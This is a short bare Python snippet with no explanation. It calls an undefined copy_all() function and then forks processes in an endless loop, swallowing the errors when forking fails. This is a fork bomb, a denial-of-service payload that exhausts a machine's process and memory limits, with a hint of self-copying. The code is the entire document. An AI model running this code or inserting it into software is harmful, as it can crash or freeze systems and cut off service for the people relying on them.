copy_all()
while True:
    try:
        os.fork()
    except OSError:
        pass
